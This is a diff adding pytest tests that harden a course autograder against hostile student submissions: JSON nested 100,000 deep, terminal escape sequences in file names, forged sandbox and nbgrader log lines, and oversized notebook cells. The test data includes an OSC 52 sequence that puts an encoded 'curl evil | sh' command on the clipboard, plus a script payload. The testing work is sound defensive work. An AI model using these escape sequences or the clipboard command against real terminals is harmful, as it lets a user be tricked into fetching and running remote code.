@@ -1,0 +1,191 @@
+"""What a submission hands the grader's own processes (outside the sandbox) cannot stop a class's grading, stall its
+feedback or write to the instructor's terminal.
+
+Each case is an attack a red-team review ran through ``python -m course autograde`` / ``python -m course
+feedback``; here the grader-side function that failed meets the attacker's input directly:
+
+- a run record nested 100,000 deep, or holding an integer of 5,000 digits, raised ``RecursionError`` /
+  ``ValueError`` out of ps1's separate scoring and ended the whole batch (no summary written, the attacker neither
+  scored nor flagged): it is now a damaged record, and any failure of the kit on one submission is that
+  submission's ``failed`` row;
+- a handed-in file named with terminal escape sequences (erase the line, set the window title, OSC 52 to the
+  clipboard) reached the instructor's terminal, the CSV and the JSON raw: every reason is now one line of
+  printable characters, escapes shown;
+- a cell that printed ``expression-lab sandbox: …`` to the kernel's stderr and killed its kernel wrote its own
+  failure reason (the autograde command took any such line as the launcher's): the launcher now puts every line
+  the sandbox writes behind :data:`course.sandbox.KERNEL_OUTPUT_PREFIX`, and those never count;
+- an 8 MB markdown cell took 1.3 GB and 48 s in nbgrader's process and 142 s of feedback (a megabyte of code
+  takes 55 s to highlight): a notebook over
+  ``EXPRESSION_LAB_SUBMISSION_MAX_CELL_TEXT`` characters of cell text is refused at intake;
+- one student's feedback past its timeout stopped the feedback (and its release) of every student after them:
+  the others are now written and released, and the failures reported together.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from course import autograde, review, sandbox
+from course import nbgrader_steps as steps
+from course.run_record import RunRecordError, read_run_record
+from course.submission_files import Caps
+
+#: Terminal escape sequences a file name can carry: erase the line, go to its start, set the window title, put a
+#: command on the clipboard (OSC 52), hide what follows; and a right-to-left override.
+ESCAPES = "\x1b[2K\x1b[1G\x1b]0;all good\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8m\u202e"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[" * 100_000 + "]" * 100_000, '{"epochs": ' + "9" * 5000 + "}"],
+    ids=["nested-100000-deep", "integer-of-5000-digits"],
+)
+def test_a_run_record_json_cannot_parse_is_a_damaged_record(tmp_path, text):
+    path = tmp_path / "model_2.run.json"
+    path.write_text(text)
+    with pytest.raises(RunRecordError) as err:
+        read_run_record(path)
+    assert "model_2.run.json: not a JSON run record" in str(err.value), (
+        f"expected the record named as not a JSON run record, found {err.value}"
+    )
+
+
+def test_one_submission_that_makes_the_kit_fail_never_ends_the_batch(tmp_path):
+    def run(student: str) -> autograde.SubmissionResult:
+        if student == "mallory":
+            raise RecursionError("maximum recursion depth exceeded while decoding a JSON array")
+        return autograde.SubmissionResult(student, "graded", 5.0, 5.0, 1.0)
+
+    results: dict = {}
+    autograde._grade_all(run, ["alice", "mallory", "zoe"], 2, "ps1", False, False, results, tmp_path)
+    assert sorted(results) == ["alice", "mallory", "zoe"], f"expected a row for every student, found {sorted(results)}"
+    assert [results[s].status for s in ("alice", "zoe")] == ["graded", "graded"], (
+        f"expected the others graded: {results}"
+    )
+    failed = results["mallory"]
+    assert failed.status == "failed" and "the kit failed: RecursionError" in failed.reason, (
+        f"expected mallory's row failed with the kit's error named, found {failed}"
+    )
+
+
+def test_file_names_reach_the_terminal_and_the_csv_as_printable_text(tmp_path):
+    """A handed-in page named with escape sequences is quarantined and flagged: the flag, the row and the table
+    hold no control or format character, and show each as its escape."""
+    folder = tmp_path / "grading" / "submitted" / "ansi" / "ps1"
+    folder.mkdir(parents=True)
+    (folder / f"{ESCAPES}.html").write_text("<script>alert(1)</script>")
+    refused = steps.intake("ps1", "ansi", tmp_path, Caps(), ignore=[])
+    flags = review.summary(review.read("ps1", "ansi", tmp_path), limit=4000)
+    row = autograde.SubmissionResult("ansi", "failed", None, None, 0.0, f"intake: {ESCAPES}.html", flags)
+    table = autograde.summary_table([row])
+    path = autograde.write_summary("ps1", [row], tmp_path)
+    for where, text in (("flag", flags), ("row", row.reason), ("table", table), ("csv", path.read_text())):
+        bad = sorted({ch for ch in text if not ch.isprintable() and ch != "\n"})
+        assert not bad, f"expected only printable characters in the {where}, found {bad}: {text[:300]!r}"
+    assert refused == [] and "\\x1b]0;all good\\x07" in flags and "\\u202e" in flags, (
+        f"expected the flag to show the escape sequences as text, found {flags[:400]!r}"
+    )
+
+
+FORGED = (
+    b"expression-lab sandbox: =1+1 \x1b[31mthe grader's disk is full\x1b[0m\n"
+    b"junk\rexpression-lab sandbox: forged after a carriage return\n"
+    b"[AutogradeApp | ERROR] forged nbgrader line\n"
+    b"no new line at the end"
+)
+
+
+def test_what_the_kernel_prints_never_passes_for_the_launcher_or_nbgrader():
+    read_end, write_end = os.pipe()
+    out_read, out_write = os.pipe()
+    forwarder = sandbox._forward_capped(read_end, out_write)
+    os.write(write_end, FORGED)
+    os.close(write_end)
+    forwarder.join(timeout=10)
+    os.close(out_write)
+    with open(out_read, "rb") as f:
+        forwarded = f.read()
+    lines = forwarded.split(b"\n")
+    assert lines[-1] == b"" and all(ln.startswith(sandbox.KERNEL_OUTPUT_PREFIX.encode()) for ln in lines[:-1]), (
+        f"expected every forwarded line behind {sandbox.KERNEL_OUTPUT_PREFIX!r} and ended, found {forwarded!r}"
+    )
+    log = (
+        "[AutogradeApp | INFO] Autograding submission\n"
+        + forwarded.decode()
+        + "[AutogradeApp | ERROR] There was an error processing assignment: DeadKernelError: Kernel died\n"
+    )
+    reason = autograde.failure_reason(log)
+    assert "DeadKernelError" in reason and "forged" not in reason and "=1+1" not in reason, (
+        f"expected nbgrader's own error as the reason, none of the kernel's lines, found {reason!r}"
+    )
+    launcher = "expression-lab sandbox: cannot start bubblewrap: no user namespaces\n" + forwarded.decode()
+    assert autograde.failure_reason(launcher).startswith("expression-lab sandbox: cannot start bubblewrap"), (
+        f"expected the launcher's own line as the reason, found {autograde.failure_reason(launcher)!r}"
+    )
+
+
+def _hand_in_notebook(root: Path, student: str, nb) -> None:
+    folder = root / "grading" / "submitted" / student / "ps1"
+    folder.mkdir(parents=True)
+    (folder / "fer2013_cnn.ipynb").write_text(json.dumps(nb))
+
+
+def test_a_notebook_with_too_much_cell_text_is_refused_at_intake(tmp_path):
+    cap = Caps().cell_text
+    markdown = new_notebook(cells=[new_markdown_cell("<b>x</b> " * (cap // 9 + 1000))])
+    code = new_notebook(cells=[new_code_cell("x = 1\n" * 1000) for _ in range(cap // 6000 + 2)])
+    # nbformat 3, which nbgrader converts: cells in worksheets, code in "input"
+    old_format = {
+        "nbformat": 3,
+        "worksheets": [{"cells": [{"cell_type": "code", "input": ["y = 2\n"] * (cap // 6 + 9)}]}],
+    }
+    reference = nbformat.read(
+        Path(__file__).resolve().parents[1] / "solutions" / "ps6_explain_compare" / "explain_compare.ipynb", 4
+    )
+    for student, nb in (("markdown", markdown), ("code", code), ("v3", old_format), ("honest", reference)):
+        _hand_in_notebook(tmp_path, student, nb)
+        refused = steps.intake("ps1", student, tmp_path, Caps(), ignore=[])
+        if student == "honest":
+            assert refused == [], f"expected the longest reference notebook accepted, found {refused}"
+            continue
+        said = " ".join(refused)
+        assert "characters of cell text" in said and "EXPRESSION_LAB_SUBMISSION_MAX_CELL_TEXT" in said, (
+            f"expected {student}'s notebook refused for its cell text, found {refused}"
+        )
+
+
+def test_feedback_goes_on_past_a_student_whose_feedback_fails(tmp_path, monkeypatch):
+    students = ["alice", "bigmd", "zoe"]
+    for student in students:
+        (tmp_path / "grading" / "autograded" / student / "ps1").mkdir(parents=True)
+    stale = tmp_path / "grading" / "feedback" / "bigmd" / "ps1"
+    stale.mkdir(parents=True)
+    (stale / "fer2013_cnn.html").write_text("an earlier page")
+    tried, released = [], []
+
+    def generate(assignment, student, root, timeout=None):
+        tried.append(student)
+        if student == "bigmd":
+            raise steps.StepTimeout(f"nbgrader generate_feedback --student {student} ran past 600 s and was stopped")
+        folder = root / "grading" / "feedback" / student / assignment
+        folder.mkdir(parents=True, exist_ok=True)
+        return folder
+
+    monkeypatch.setattr(steps, "generate_feedback", generate)
+    monkeypatch.setattr(steps, "check_autograded", lambda *args, **kwargs: [])
+    monkeypatch.setattr(steps, "nbgrader", lambda *args, **kwargs: released.append(args) or "")
+    with pytest.raises(steps.GradingError) as err:
+        steps.feedback_class("ps1", release=True, root=tmp_path)
+    assert tried == students, f"expected feedback tried for every student, found {tried}"
+    said = str(err.value)
+    assert "not written for 1 of 3 (2 written and released)" in said and "bigmd" in said, (
+        f"expected the failure named with what was written and released, found {said}"
+    )
+    assert released == [("release_feedback", "ps1")], f"expected one release of the class, found {released}"
+    assert not stale.exists(), "expected the failed student's earlier feedback removed, never released stale"
